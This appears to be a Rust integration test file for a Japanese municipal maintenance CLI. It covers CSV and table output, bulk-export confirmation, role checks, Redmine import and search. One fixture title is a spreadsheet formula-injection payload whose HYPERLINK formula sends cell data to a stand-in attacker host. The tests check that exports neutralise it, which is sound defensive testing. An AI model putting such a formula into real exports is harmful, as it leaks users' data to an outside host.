//! `hoshu meetings list` and `hoshu register list` as scripts read them: exact CSV columns,
//! codes and ISO dates, Japanese tables, and the policy, on SQLite and PostgreSQL.

use crate::common;
use calamine::Reader;

use chrono::{NaiveDate, TimeZone};
use hoshu_app::{Hoshu, ManualClock};
use hoshu_core::Role;
use hoshu_core::meeting::{ActionItem, Attendee, MeetingKind, MinutesAction, NewMeeting, Side};
use hoshu_core::register::{IssueCategory, IssueInput, IssuePriority, IssueStatus};
use hoshu_store::testing::TestDatabase;
use hoshu_store::{Backend, Store};
use std::process::{Command, Output};
use std::sync::Arc;

const PASSWORD: &str = "correct-horse-1";

fn hoshu(args: &[&str]) -> Output {
    let mut cmd = Command::new(env!("CARGO_BIN_EXE_hoshu"));
    cmd.args(args)
        .env_remove("HOSHU_DB")
        .env("HOSHU_PASSWORD", PASSWORD);
    common::run_leaving_no_temp_files(cmd)
}

/// A title that runs as a formula when a spreadsheet opens it raw.
const FORMULA_TITLE: &str = r#"=HYPERLINK("https://evil.example/?"&C2,"詳細")"#;

fn stdout(o: &Output) -> String {
    String::from_utf8(o.stdout.clone()).expect("UTF-8 output")
}

fn stderr(o: &Output) -> String {
    String::from_utf8(o.stderr.clone()).expect("UTF-8 errors")
}

fn date(y: i32, m: u32, d: u32) -> NaiveDate {
    NaiveDate::from_ymd_opt(y, m, d).unwrap()
}

fn meeting(kind: MeetingKind, title: &str, day: u32) -> NewMeeting {
    let at = |h| {
        hoshu_core::calendar::TOKYO
            .with_ymd_and_hms(2026, 4, day, h, 0, 0)
            .unwrap()
            .with_timezone(&chrono::Utc)
    };
    NewMeeting {
        kind,
        title: title.into(),
        starts_at: at(14),
        ends_at: at(15),
        place: "本庁舎 第3会議室".into(),
        attendees: vec![Attendee {
            side: Side::City,
            organisation: "生活保護・自立支援課".into(),
            title: "課長".into(),
            name: "岡本 誠".into(),
            present: true,
        }],
        handouts: vec![],
        agenda: vec!["運用状況".into()],
        discussion: "報告した。".into(),
        decisions: vec![],
        action_items: vec![ActionItem {
            description: "外字運用ルールの整理".into(),
            owner: "小川 健".into(),
            due: date(2026, 4, 30),
        }],
        next_meeting: None,
    }
}

/// Accounts, two meetings (the first with its minutes submitted) and a register of three
/// items: two action items and one raised by hand with a comma and quotes in its title.
async fn fixture(db: &TestDatabase) {
    let clock = Arc::new(ManualClock::new(
        hoshu_core::calendar::TOKYO
            .with_ymd_and_hms(2026, 4, 20, 9, 0, 0)
            .unwrap()
            .with_timezone(&chrono::Utc),
    ));
    let store = Store::connect(&db.url, db.key()).await.unwrap();
    let h = Hoshu::new(store.clone(), clock);
    h.initialise("kanri-pass-2026").await.unwrap();
    let admin = h.login("admin", "kanri-pass-2026").await.unwrap();
    hoshu_app::testing::add_accounts(
        &h,
        &admin,
        &[
            ("staff01", Role::Staff, "kita_chuo"),
            ("staff02", Role::Staff, "naka"),
            ("chief", Role::Chief, "section"),
            ("contractor", Role::Contractor, "contractor"),
        ],
        PASSWORD,
    )
    .await;
    let se = h.login("contractor", PASSWORD).await.unwrap();
    let first = h
        .record_meeting(&se, meeting(MeetingKind::Regular, "第1回 定例会議", 8))
        .await
        .unwrap();
    h.minutes_step(&se, first.id, 1, MinutesAction::Submit, "")
        .await
        .unwrap();
    h.record_meeting(
        &se,
        meeting(MeetingKind::ScheduleReview, "4月 業務日程レビュー", 13),
    )
    .await
    .unwrap();
    h.add_register_item(
        &se,
        IssueInput {
            raised_on: date(2026, 4, 15),
            raised_by: "岡本 誠".into(),
            category: IssueCategory::Improvement,
            title: "帳票改善（医療券, \"氏名欄\"）".into(),
            content: "氏名欄が狭い。".into(),
            priority: IssuePriority::Medium,
            owner: "大西 亮".into(),
            due: None,
            status: IssueStatus::Done,
            progress: "リリース済み。".into(),
            completed_on: Some(date(2026, 4, 17)),
            meeting_id: None,
            request_id: None,
        },
    )
    .await
    .unwrap();
    h.add_register_item(
        &se,
        IssueInput {
            raised_on: date(2026, 4, 16),
            raised_by: "岡本 誠".into(),
            category: IssueCategory::Operation,
            title: FORMULA_TITLE.into(),
            content: "表計算ソフトで開いても実行されないこと。".into(),
            priority: IssuePriority::Low,
            owner: "大西 亮".into(),
            due: None,
            status: IssueStatus::Open,
            progress: String::new(),
            completed_on: None,
            meeting_id: None,
            request_id: None,
        },
    )
    .await
    .unwrap();
    // A file of more than three rows is a bulk export on this desk.
    let mut settings = h.settings(&admin).await.unwrap();
    settings.bulk_export_rows = 3;
    h.update_settings(&admin, settings).await.unwrap();
    store.close().await;
}

async fn scenario(backend: Backend) {
    let db = TestDatabase::new(backend).await;
    fixture(&db).await;
    let url = db.url.clone();
    let key = db.key_file();
    let key = key.to_str().unwrap();
    let run = |user: &str, args: &[&str]| {
        let mut all = vec!["--db", &url, "--audit-key-file", key, "--user", user];
        all.extend_from_slice(args);
        hoshu(&all)
    };

    let o = run("chief", &["meetings", "list", "--format", "csv"]);
    assert!(o.status.success(), "{}", stderr(&o));
    assert_eq!(
        stdout(&o),
        "id,kind,held_at,title\n\
         2,schedule_review,2026-04-13T14:00:00+09:00,4月 業務日程レビュー\n\
         1,regular,2026-04-08T14:00:00+09:00,第1回 定例会議\n"
    );
    let o = run(
        "contractor",
        &["meetings", "list", "--format", "csv", "--kind", "regular"],
    );
    assert_eq!(stdout(&o).lines().count(), 2);
    let o = run("chief", &["meetings", "list"]);
    let table = stdout(&o);
    let lines: Vec<&str> = table.lines().collect();
    assert_eq!(lines[0], "ID\t種別\t開催日時\t議事録\t提出期限\t会議名");
    assert!(
        lines.contains(
            &"1\t定例会議\t令和8年4月8日(水) 14:00\t提出済\t令和8年4月15日(水)\t第1回 定例会議"
        ),
        "{table}"
    );
    assert_eq!(lines.last(), Some(&"（全 2 件）"));

    // Four rows: a bulk export here. Asked for, not written, until confirmed.
    let o = run("contractor", &["register", "list", "--format", "csv"]);
    assert_eq!(o.status.code(), Some(1));
    assert_eq!(stdout(&o), "", "nothing leaves before the confirmation");
    assert!(
        stderr(&o).contains("課題管理表を4件書き出そうとしています（3件を超える一括出力）")
            && stderr(&o).contains("--confirm-bulk"),
        "{}",
        stderr(&o)
    );
    let o = run(
        "contractor",
        &["register", "list", "--format", "csv", "--confirm-bulk"],
    );
    assert!(o.status.success(), "{}", stderr(&o));
    assert_eq!(
        stdout(&o),
        "no,raised_on,title,status,owner,due\n\
         1,2026-04-08,外字運用ルールの整理,open,小川 健,2026-04-30\n\
         2,2026-04-13,外字運用ルールの整理,open,小川 健,2026-04-30\n\
         3,2026-04-15,\"帳票改善（医療券, \"\"氏名欄\"\"）\",done,大西 亮,\n\
         4,2026-04-16,\"'=HYPERLINK(\"\"https://evil.example/?\"\"&C2,\"\"詳細\"\")\",open,大西 亮,\n",
        "the formula is neutralised with a leading quote"
    );

    // The same title in the .xlsx: the text exactly as recorded, never a formula, marked
    // with Excel's quote prefix so that editing the cell does not run it either.
    let out = tempfile::tempdir().unwrap();
    let xlsx = out.path().join("課題管理表.xlsx");
    let o = run(
        "contractor",
        &[
            "render",
            "register",
            "-o",
            xlsx.to_str().unwrap(),
            "--confirm-bulk",
        ],
    );
    assert!(o.status.success(), "{}", stderr(&o));
    let mut book: calamine::Xlsx<_> = calamine::open_workbook(&xlsx).unwrap();
    let cells = book.worksheet_range("課題管理表").unwrap();
    let titles: Vec<String> = cells.rows().skip(3).map(|r| r[4].to_string()).collect();
    assert!(titles.contains(&FORMULA_TITLE.to_owned()), "{titles:?}");
    let formulas = book.worksheet_formula("課題管理表").unwrap();
    assert!(
        formulas.used_cells().all(|(_, _, f)| f.is_empty()),
        "no formula in the workbook"
    );
    let styles = {
        let mut zip = zip::ZipArchive::new(std::fs::File::open(&xlsx).unwrap()).unwrap();
        let mut text = String::new();
        std::io::Read::read_to_string(&mut zip.by_name("xl/styles.xml").unwrap(), &mut text)
            .unwrap();
        text
    };
    assert!(styles.contains(r#"quotePrefix="1""#), "{styles}");
    let o = run(
        "chief",
        &["register", "list", "--format", "csv", "--status", "done"],
    );
    assert_eq!(stdout(&o).lines().count(), 2);
    let o = run("chief", &["register", "list"]);
    let table = stdout(&o);
    assert!(table.starts_with("No\t起票日\t分類\t優先度\t状態\t担当者\t期限\tタイトル\n"));
    assert!(
        table.contains("1\t令和8年4月8日(水)\t運用\t中\t未着手\t小川 健\t令和8年4月30日(木)\t外字運用ルールの整理"),
        "{table}"
    );

    // Unknown codes and staff are refused in Japanese with status 1.
    let o = run("chief", &["register", "list", "--status", "closed"]);
    assert_eq!(o.status.code(), Some(1));
    assert!(stderr(&o).contains("--status（状態）に不明なコード「closed」"));
    for args in [&["meetings", "list"][..], &["register", "list"][..]] {
        let o = run("staff01", args);
        assert_eq!(o.status.code(), Some(1));
        assert!(
            stderr(&o).contains("担当課と受託者のみが参照できます"),
            "{}",
            stderr(&o)
        );
    }
    db.remove().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn meetings_and_register_lists_on_sqlite() {
    scenario(Backend::Sqlite).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn meetings_and_register_lists_on_postgres() {
    scenario(Backend::Postgres).await;
}

/// `hoshu import` and `hoshu search` as scripts run them: the summary on stdout, row problems
/// on stderr, exit 1 and nothing written on any error; search CSV with safe cells.
async fn import_and_search(backend: Backend) {
    let db = TestDatabase::new(backend).await;
    fixture(&db).await;
    let url = db.url.clone();
    let key = db.key_file();
    let key = key.to_str().unwrap();
    let run = |user: &str, args: &[&str]| {
        let mut all = vec!["--db", &url, "--audit-key-file", key, "--user", user];
        all.extend_from_slice(args);
        hoshu(&all)
    };
    let dir = tempfile::tempdir().unwrap();
    let csv = |name: &str, extra: &str| {
        let path = dir.path().join(name);
        let text = format!(
            "\u{feff}#,トラッカー,ステータス,題名,作成者,作成日,所属,説明,最新のコメント\r\n\
             101,質問,終了,過去の取込テスト,staff01 氏名,2025/04/03 11:32,kita_chuo,\"1行目\r\n2行目\",回答済み\r\n\
             102,保守,新規,もう一件の取込テスト,staff01 氏名,2025/04/04,kita_chuo,本文,\r\n{extra}"
        );
        std::fs::write(&path, text).unwrap();
        path.to_str().unwrap().to_owned()
    };
    let mapping = dir.path().join("mapping.toml");
    let mapping = mapping.to_str().unwrap();

    // An unknown tracker and an impossible date: exit 1, problems by row, nothing written,
    // and the mapping in force written out for a person to complete.
    let bad = csv(
        "bad.csv",
        "103,質問,新規,壊れた行,staff01 氏名,2025/13/45,kita_chuo,本文,\r\n",
    );
    let o = run(
        "contractor",
        &["import", "redmine", &bad, "--write-mapping", mapping],
    );
    assert_eq!(o.status.code(), Some(1));
    assert!(
        stdout(&o).contains("新規 1件 / 既存 0件 / エラー 2件"),
        "{}",
        stdout(&o)
    );
    let err = stderr(&o);
    assert!(err.contains("--mapping で渡してください"), "{err}");
    assert!(
        err.contains("4行目 トラッカー: 「保守」の対応先が分かりません"),
        "{err}"
    );
    assert!(
        err.contains("5行目 作成日: 日付として読めません（\"2025/13/45\"）"),
        "{err}"
    );
    let written = std::fs::read_to_string(mapping).unwrap();
    assert!(written.contains("\"保守\" = \"\""), "{written}");
    assert!(written.contains("\"質問\" = \"inquiry\""), "{written}");
    let o = run("chief", &["search", "取込テスト", "--format", "csv"]);
    assert_eq!(stdout(&o), "kind,id,title\n");

    // Completed and passed back: a dry run writes nothing, the import writes both, once.
    std::fs::write(
        mapping,
        written.replace("\"保守\" = \"\"", "\"保守\" = \"work\""),
    )
    .unwrap();
    let good = csv("good.csv", "");
    let o = run(
        "contractor",
        &[
            "import",
            "redmine",
            &good,
            "--mapping",
            mapping,
            "--dry-run",
        ],
    );
    assert!(o.status.success(), "{}", stderr(&o));
    assert!(stdout(&o).contains("新規 2件 / 既存 0件 / エラー 0件（試行のため書き込みなし）"));
    assert!(stdout(&o).contains(
        "2\tredmine#101\t問合せ\t完了\tkita_chuo\t2025-04-03 11:32\t過去の取込テスト\t新規"
    ));
    let o = run("chief", &["search", "取込テスト", "--format", "csv"]);
    assert_eq!(stdout(&o).lines().count(), 1);
    let o = run(
        "contractor",
        &["import", "redmine", &good, "--mapping", mapping],
    );
    assert!(o.status.success(), "{}", stderr(&o));
    assert_eq!(stdout(&o), "新規 2件 / 既存 0件 / エラー 0件\n");
    // Progress on standard error: the rows written, then what was read and written.
    assert_eq!(stderr(&o), "書き込み 2/2件\n読み込み 2行 / 書き込み 2件\n");
    let o = run(
        "contractor",
        &["import", "redmine", &good, "--mapping", mapping],
    );
    assert_eq!(stdout(&o), "新規 0件 / 既存 2件 / エラー 0件\n");
    assert_eq!(stderr(&o), "読み込み 2行 / 書き込み 0件\n");
    let o = run("chief", &["import", "redmine", &good]);
    assert_eq!(o.status.code(), Some(1));
    assert!(
        stderr(&o).contains("受託者またはシステム管理者のみ"),
        "{}",
        stderr(&o)
    );

    // Job results name a job net the desk does not have: its row and column, nothing written.
    let jobs = dir.path().join("jobs.csv");
    std::fs::write(
        &jobs,
        "ジョブネット名,開始日時,終了日時,終了状態,処理件数\r\n\
         NJ_UNKNOWN,2025/04/03 01:00,2025/04/03 01:40,正常終了,10\r\n",
    )
    .unwrap();
    let o = run(
        "contractor",
        &["import", "batches", jobs.to_str().unwrap(), "--dry-run"],
    );
    assert_eq!(o.status.code(), Some(1));
    assert!(
        stderr(&o).contains("2行目 ジョブネット名: 「NJ_UNKNOWN」の対応先が分かりません"),
        "{}",
        stderr(&o)
    );

    // Search: every match as kind,id,title; the office's staff see their requests only.
    let o = run(
        "staff01",
        &[
            "search",
            "取込テスト",
            "--in",
            "requests",
            "--format",
            "csv",
        ],
    );
    assert!(o.status.success(), "{}", stderr(&o));
    let lines: Vec<String> = stdout(&o).lines().map(str::to_owned).collect();
    assert_eq!(lines.len(), 3, "{lines:?}");
    assert!(lines[1].starts_with("request,") && lines[1].ends_with(",もう一件の取込テスト"));
    let o = run("staff01", &["search", "取込", "--in", "register"]);
    assert_eq!(o.status.code(), Some(1));
    // A formula in a title leaves as text.
    let o = run(
        "chief",
        &["search", "ｈｙｐｅｒｌｉｎｋ", "--format", "csv"],
    );
    let out = stdout(&o);
    let row = out.lines().nth(1).unwrap();
    assert!(
        row.starts_with("register,") && row.contains(",\"'=HYPERLINK("),
        "{out}"
    );
    // More rows than the bulk threshold (3) leave only when confirmed.
    let o = run("chief", &["search", "の", "--format", "csv"]);
    assert_eq!(o.status.code(), Some(1));
    assert!(stderr(&o).contains("--confirm-bulk"), "{}", stderr(&o));
    let o = run(
        "chief",
        &["--confirm-bulk", "search", "の", "--format", "csv"],
    );
    assert!(o.status.success(), "{}", stderr(&o));
    assert!(stdout(&o).lines().count() > 4);
    let o = run("chief", &["search", "取込テスト"]);
    assert!(stdout(&o).starts_with("種類\tID\t日付\t件名\n"));
    assert!(stdout(&o).ends_with("（全 2 件）\n"));

    // `#N` naming a request the person may see prints the request itself.
    let id = lines[1].split(',').nth(1).unwrap();
    let o = run("staff01", &["search", &format!("＃{id}")]);
    assert!(o.status.success(), "{}", stderr(&o));
    let shown = stdout(&o);
    assert!(
        shown.starts_with(&format!(
            "#{id} もう一件の取込テスト\n種別\t作業依頼\n状態\t受付\n"
        )),
        "{shown}"
    );
    assert!(shown.contains("緊急度\t通常\n所属\tkita_chuo\n"), "{shown}");
    assert!(shown.contains("\n内容\n本文\n"), "{shown}");
    // Another office's staff, or a number no request has: the list of matches, as before.
    let o = run("staff02", &["search", &format!("#{id}")]);
    assert!(o.status.success(), "{}", stderr(&o));
    assert!(
        stdout(&o).starts_with("種類\tID\t日付\t件名\n"),
        "{}",
        stdout(&o)
    );
    assert!(!stdout(&o).contains("取込テスト"));
    let o = run("chief", &["search", "#999999"]);
    assert!(stdout(&o).ends_with("（全 0 件）\n"), "{}", stdout(&o));
    db.remove().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn import_and_search_on_sqlite() {
    import_and_search(Backend::Sqlite).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn import_and_search_on_postgres() {
    import_and_search(Backend::Postgres).await;
}
